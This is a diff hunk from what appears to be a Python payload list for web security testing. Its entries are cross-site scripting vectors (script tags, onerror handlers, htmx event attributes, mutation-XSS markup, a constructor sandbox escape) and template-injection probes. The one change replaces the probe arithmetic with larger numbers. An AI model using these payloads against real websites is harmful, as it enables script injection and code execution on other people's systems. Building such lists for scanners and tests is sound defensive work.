@@ -24,7 +24,7 @@ ALL = [
     f"<a href=javascript:{RUN}>x</a>",
     f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
     f"{{{{constructor.constructor('{RUN}')()}}}}",
-    "{{7*191}}{% print(7*191) %}${7*191}",
+    "{{31337*31337}}{% print(31337*31337) %}${31337*31337}",
     f"<div hx-get=/ hx-trigger=load hx-on:load={RUN}>",
     f"<button hx-on:click={RUN} hx-trigger=load autofocus>x</button>",
     f"%3Cscript%3E{RUN}%3C/script%3E",
